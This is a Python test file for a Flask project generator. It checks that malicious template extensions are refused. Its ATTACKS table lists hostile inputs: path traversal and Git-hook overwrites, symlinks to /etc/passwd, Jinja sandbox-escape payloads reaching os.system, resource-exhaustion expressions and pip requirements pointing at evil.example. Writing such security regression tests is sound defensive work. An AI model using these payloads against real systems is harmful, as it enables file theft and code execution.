"""What broke copier in 2025 and 2026, tried with an extension: each is refused, with the reason."""

from __future__ import annotations

import os
import re
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from flaskgen.effects.shipped.compatibility_data import load_series
from flaskgen.effects.shipped.rendering import render_projects
from flaskgen.effects.shipped.templates import load_catalogue
from flaskgen.effects.system import limits
from flaskgen.errors import TemplateDefect
from flaskgen.planning.flask.releases import FlaskRelease
from flaskgen.planning.project.names import ProjectName
from flaskgen.planning.project.spec import ProjectSpec
from flaskgen.planning.templates.catalogue import Extension
from flaskgen.planning.templates.manifest import parse_manifest

MANIFEST = (
    'title = "Evil"\nsummary = "s"\norder = 200\nversion = "1"\n[flask."0.10 to 3.1"]\nrequirements = []\n'
)
Attack = Callable[[Path], None]


def write(directory: Path, path: str, text: str) -> None:
    file = directory / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")


def lands_on(path: str) -> Attack:
    return lambda directory: write(directory, f"files/{path}.jinja", "x\n")


def renders(text: str) -> Attack:
    return lambda directory: write(directory, "files/evil.txt.jinja", text)


def fills(text: str) -> Attack:
    return lambda directory: write(
        directory, "slots.jinja", f'{{% fill "readme.about" %}}\n{text}\n{{% endfill %}}\n'
    )


def says(text: str) -> Attack:
    return lambda directory: write(directory, "manifest.toml", text + MANIFEST)


def links(path: str, target: str) -> Attack:
    def attack(directory: Path) -> None:
        link = directory / path
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target)

    return attack


def many_files(directory: Path) -> None:
    for number in range(1100):
        write(directory, f"files/{number}", "")


def two_accents(directory: Path) -> None:
    for letter in ("\u00e9", "e\u0301"):
        lands_on(f"{letter}.txt")(directory)


def tried(directory: Path) -> None:
    catalogue = load_catalogue([directory], ["evil"])
    series = load_series()[-1]
    release = catalogue.on(FlaskRelease(series.tested, series))
    render_projects([ProjectSpec(ProjectName("shop"), release, "3.13", ("evil",))], catalogue, secret_key="k")


ATTACKS = {
    # Paths that leave the project: CVE-2025-55214, CVE-2026-23986
    "traversal": lands_on("{{ '..' }}/evil"),
    "traversal in the middle": lands_on("a/{{ '..' }}/{{ '..' }}/evil"),
    "absolute": lands_on("{{ '/etc/evil' }}"),
    "absolute in two parts": lands_on("{{ '' }}/etc"),
    "home of Windows": lands_on("{{ 'C:' }}/evil"),
    "backslashes": lands_on("{{ '..' + '\\\\\\\\' + 'evil' }}"),
    "hooks of Git": lands_on(".git/hooks/pre-commit"),
    "hooks of Git below": lands_on("vendor/.GIT/hooks/pre-commit"),
    "short name": lands_on("git~1/config"),
    "environment": lands_on(".venv/lib/site.pth"),
    "record": lands_on(".flaskgen/project.toml"),
    "pins": lands_on("requirements.txt"),
    "device": lands_on("nul.txt"),
    "invisible": lands_on(".g\u200cit/config"),
    "line break": lands_on("{{ 'a\\nb' }}"),
    "file of the base": lands_on("pyproject.toml"),
    "file above the package": lands_on("{{package}}"),
    "hooks of Windows": lands_on("FLASKG~1/project.toml"),
    "port": lands_on("com\u00b9"),
    "console": lands_on("conin$.txt"),
    "very long": lands_on("{{ 'a'.zfill(256) }}"),
    "another case": lands_on("{{ 'Readme' }}.md"),
    "below a file in another case": lands_on("readme.md/evil"),
    "a directory in another case": lands_on("Tests/evil"),
    "other accents": two_accents,
    "once, of the base": says('once = ["README.md"]\n'),
    "once": says('once = ["../../.bashrc"]\n'),
    # Links: CVE-2025-55201, CVE-2026-23968
    "link to a file": links("files/passwd", "/etc/passwd"),
    "link to a directory": links("files/etc", "/etc"),
    "link to nothing": links("files/gone", "gone"),
    "link of slots": links("slots.jinja", "/etc/passwd"),
    "link of an overlay": links("with/login", "/etc"),
    # Other files: CVE-2026-34726, CVE-2026-53951
    "include": renders("{% include '/etc/passwd' %}"),
    "include of a neighbour": renders("{% include '../manifest.toml' %}"),
    "import": renders("{% import 'evil.txt' as x %}"),
    "from": renders("{% from '../x' import y %}"),
    "extends": renders("{% extends '/etc/passwd' %}"),
    "include in a fill": fills("{% include '/etc/passwd' %}"),
    # Escapes from the sandbox: GHSA-hgjq-p8cr-gg4h
    "classes": renders("{{ ''.__class__.__mro__ }}"),
    "attr": renders("{{ ''|attr('__class__') }}"),
    "map": renders("{{ ['']|map(attribute='__class__')|first }}"),
    "format": renders("{{ '{0.__class__}'.format(slot) }}"),
    "format of a list": renders("{{ ['{0.__globals__}'.format]|map('string')|list }}{{ slot.__globals__ }}"),
    "globals": renders("{{ slot.__globals__['os'].system('true') }}"),
    "self": renders("{{ self.__init__.__globals__ }}"),
    "cycler": renders("{{ cycler.__init__ }}"),
    "change of a value": renders("{% set x = options.update({'a': 1}) %}"),
    "do": renders("{% do requirements %}"),
    "power": renders("{{ 9 ** 9 ** 9 }}"),
    "much text": renders("{{ 'x' * 10 ** 10 }}"),
    "much padding": renders("{{ '%1000000000s' % 'x' }}"),
    "much in a call": renders("{{ 'x'.ljust(5000001) }}"),
    "range": renders("{% for a in range(99999) %}{% endfor %}"),
    "division": renders("{{ 1 / 0 }}"),
    "recursion": renders("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"),
    "escape in the manifest": says('note = "\\u001b[2J"\n'),
    "address": lambda directory: write(
        directory, "manifest.toml", MANIFEST.replace("[]", '["x @ https://evil.example/x.whl"]')
    ),
    "option of pip": lambda directory: write(
        directory, "manifest.toml", MANIFEST.replace("[]", '["--index-url=https://evil.example"]')
    ),
    "trait of another": says('provides = ["login"]\n'),
    "trait of a series": says('provides = ["legacy-orm"]\n'),
    "trait of no one": says('provides = ["a b"]\n'),
    "trait of an option": lambda directory: write(
        directory,
        "manifest.toml",
        MANIFEST + '[options.with]\nhelp = "h"\nchoices = ["pages"]\ndefault = "pages"\n',
    ),
    "number of many digits": says(f"order = {'9' * 5000}\n"),
    "series of many digits": lambda directory: write(
        directory, "manifest.toml", MANIFEST.replace("0.10", "9" * 5000 + ".1")
    ),
    "a key in a wrong table": lambda directory: write(
        directory, "manifest.toml", MANIFEST + 'needs = ["login"]\n'
    ),
    "many files": many_files,
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_is_refused_and_writes_nothing(attack: Attack, tmp_path: Path) -> None:
    directory = tmp_path / "evil"
    write(directory, "manifest.toml", MANIFEST)
    attack(directory)
    before = sorted(os.walk(tmp_path))
    with pytest.raises(TemplateDefect) as refused:
        tried(directory)
    assert "\n" not in refused.value.message
    assert "\x1b" not in refused.value.message
    assert "root:" not in refused.value.message
    assert sorted(os.walk(tmp_path)) == before


@pytest.mark.parametrize(
    "name", ["all", "base", "generated", "resource", "single", "legacy-orm", "resources", "with-pages"]
)
def test_an_extension_cannot_have_a_name_that_means_something_else(name: str, tmp_path: Path) -> None:
    write(tmp_path / name, "manifest.toml", MANIFEST)
    with pytest.raises(TemplateDefect, match=f"`{name}` (cannot name an extension|is a trait of flaskgen)"):
        load_catalogue([tmp_path], None)


@pytest.mark.skipif(sys.platform == "win32", reason="limits of POSIX")
@pytest.mark.parametrize(
    "text",
    [
        "{% set l = [1, 2, 3, 4, 5, 6] %}" + "{% for a in l %}" * 15 + "{% endfor %}" * 15,
        "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(90) }}",
        "{% set x = 'x' %}" + "{% set x = x ~ x %}" * 40,
        "{% set x = 'x' %}" + "{% set x %}{{ x }}{{ x }}{% endset %}" * 40,
    ],
)
def test_what_never_ends_is_stopped_with_its_line(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "_SECONDS", 0.1)
    write(tmp_path / "evil", "manifest.toml", MANIFEST)
    renders(f"\n{text}")(tmp_path / "evil")
    with (
        limits.limited("evil"),
        pytest.raises(TemplateDefect, match=r"evil.txt.jinja:2: (it takes|there is)"),
    ):
        tried(tmp_path / "evil")


def test_every_key_is_checked_and_named_with_its_line(tmp_path: Path) -> None:
    keys = sorted({*Extension._fields} - {"name", "place"})
    for number, key in enumerate(keys):
        others = "".join(f"# {line}\n" for line in keys[:number])
        says(f"{others}{key} = 1.5\n")(tmp_path)
        text = (tmp_path / "manifest.toml").read_text()
        text = re.sub(rf'^({key} = ".*|\["?{key}".*\n.*|{key} = \d+)$', "", text, flags=re.MULTILINE)
        with pytest.raises(TemplateDefect, match=rf":{number + 1}: `{key}` is not ") as refused:
            parse_manifest(text.replace('[flask."0.10 to 3.1"]\nrequirements = []', ""), name="x", source="m")
        assert refused.value.hint


def test_without_an_attack_the_extension_is_rendered(tmp_path: Path) -> None:
    write(tmp_path / "evil", "manifest.toml", MANIFEST)
    write(tmp_path / "evil", "files/fine.txt.jinja", "{% for one in requirements %}{{ one }}{% endfor %}\n")
    tried(tmp_path / "evil")


def test_a_link_below_a_directory_of_extensions_is_refused(tmp_path: Path) -> None:
    write(tmp_path / "elsewhere" / "evil", "manifest.toml", MANIFEST)
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "evil").symlink_to(tmp_path / "elsewhere" / "evil")
    with pytest.raises(TemplateDefect, match="not a link"):
        load_catalogue([tmp_path / "mine"], ["evil"])
